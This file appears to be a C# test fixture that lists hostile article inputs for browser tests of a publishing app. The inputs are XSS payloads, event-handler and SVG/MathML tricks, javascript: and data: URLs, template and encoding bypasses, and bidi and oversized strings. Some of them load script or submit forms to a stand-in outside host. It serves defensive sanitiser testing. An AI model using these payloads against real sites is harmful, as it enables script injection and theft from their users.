using System.Globalization;

namespace Rapporteur.Desk.Tests.Browser;

/// <summary>
/// What an article may hold to harm those who look at it, of the kinds that OWASP's testing guide and the HTML standard's parsing
/// rules lead to. Whatever runs sets <c>window.canary</c> or calls a host that is not the desk's.
/// </summary>
internal static class HostilePayloads
{
    private const string Run = "window.canary=1";
    private const string Host = "https://elsewhere.example/";

    public static IReadOnlyList<string> All { get; } =
    [
        // Scripts, and what ends another element first.
        $"<script>{Run}</script>",
        $"<ScRiPt>{Run}</sCrIpT>",
        $"<script src={Host}x.js></script>",
        $"<script type=module>import '{Host}x.js'</script>",
        $"</script><script>{Run}</script>",
        $"</title><script>{Run}</script>",
        $"</textarea><script>{Run}</script>",
        $"</style><script>{Run}</script>",
        $"</p></div></main></body></html><script>{Run}</script>",
        $"--><script>{Run}</script><!--",
        $"<![CDATA[<script>{Run}</script>]]>",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<script/x>{Run}</script>",
        $"<noscript><p title=\"</noscript><script>{Run}</script>\">",
        $"<template><script>{Run}</script></template>",

        // Event handlers.
        $"<img src=x onerror={Run}>",
        $"<img src=x onerror=\"{Run}\"//",
        $"<body onload={Run}>",
        $"<svg onload={Run}>",
        $"<svg/onload={Run}//",
        $"<details open ontoggle={Run}>x</details>",
        $"<input autofocus onfocus={Run}>",
        $"<video src=x onerror={Run}></video>",
        $"<audio src=x onerror={Run}></audio>",
        $"<marquee onstart={Run}>x</marquee>",
        $"<div onpointerenter={Run} onmouseover={Run}>over</div>",
        $"<a href=x onclick={Run}>press</a>",
        $"\" autofocus onfocus=\"{Run}",
        $"' autofocus onfocus='{Run}",
        $"\"><img src=x onerror={Run}>",
        $"'><img src=x onerror={Run}>",
        $"` onmouseover={Run} `",

        // Drawings and formulas.
        $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>press</text></a></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{Run}'>#x\"></svg>",
        $"<svg><foreignObject><iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe></foreignObject></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}></style></mglyph></table></mtext></math>",
        $"<math href=\"javascript:{Run}\">press</math>",

        // Styles.
        $"<style>@import '{Host}x.css'; * {{ display: none }}</style>",
        $"<link rel=stylesheet href={Host}x.css>",
        $"<p style=\"background:url({Host}x.png);position:fixed;inset:0\">covering</p>",
        $"<div style=\"width:expression({Run})\">x</div>",

        // Other elements that load, lead away or change the page.
        $"<iframe src=\"javascript:parent.{Run}\"></iframe>",
        $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>",
        $"<object data=\"data:text/html,<script>parent.{Run}</script>\"></object>",
        $"<embed src={Host}x>",
        $"<meta http-equiv=refresh content=\"0;url={Host}\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        $"<base href={Host}>",
        $"<form action={Host}><button>Read it</button></form>",
        $"<form id=layers action={Host}><input name=layer></form>",
        $"<button form=layers formaction={Host}>Show</button>",
        $"<link rel=prefetch href={Host}x><link rel=preconnect href={Host}>",
        $"<img src={Host}x.png srcset=\"{Host}y.png 2x\">",
        "<div id=panel-content><div id=reading><a id=s1 name=getElementById>",
        "<img name=getElementById><form name=body><input name=querySelector></form>",

        // Addresses that run.
        $"javascript:{Run}",
        $"JaVaScRiPt:{Run}",
        $"java\tscript:{Run}",
        $" \u0001javascript:{Run}",
        $"javascript://example.org/%0a{Run}",
        $"data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=",
        $"vbscript:{Run}",
        $"https://example.org/\" onmouseover=\"{Run}",

        // Templates, encodings, entities.
        $"@{{ throw new System.Exception(); }} @(1+1) @Html.Raw(\"<script>{Run}</script>\")",
        $"{{{{constructor.constructor('{Run}')()}}}}",
        $"${{{Run}}} <%= {Run} %> #{{{Run}}}",
        $"+ADw-script+AD4-{Run}+ADw-/script+AD4-",
        $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"&#60;script&#62;{Run}&#60;/script&#62;",
        $"&#x3c;img src=x onerror={Run}&#x3e;",
        $"\u003cscript\u003e{Run}\u003c/script\u003e",
        $"＜script＞{Run}＜/script＞",
        "&amp;&lt;&nosuch; &#0; &#xD800; &#x110000;",

        // Characters that cannot be seen or turn others around.
        "invoice\u202Egpj.exe says \u202Dthe\u202C bank",
        "\u2067right\u2066left\u2069 \u2069 isolate without end \u2068",
        "zero\u200Bwidth\u200C\u200D\u2060\uFEFF joined",
        "null\0byte and \u0007 bell and \u001B[31m escape and \u009B",
        "half \uD83D a pair \uDE00 alone",
        string.Concat(Enumerable.Repeat("Z\u0351\u036B\u0343\u036A\u0302", 200)),
        "‮מילים הפוכות‬ ואז English",

        // Sheer size and depth.
        new string('w', 20_000),
        string.Concat(Enumerable.Repeat("<div><blockquote><ul><li>", 3_000)),
        "<table>" + string.Concat(Enumerable.Repeat("<tr>" + string.Concat(Enumerable.Repeat("<td colspan=9999 rowspan=9999>cell", 40)), 200)) + "</table>",
        string.Concat(Enumerable.Range(0, 2_000).Select(i => string.Create(CultureInfo.InvariantCulture, $"line {i}\n"))),
        string.Concat(Enumerable.Repeat("\"", 5_000)) + " said " + string.Concat(Enumerable.Repeat("“", 5_000)),
        string.Concat(Enumerable.Repeat("(", 10_000)),
    ];
}
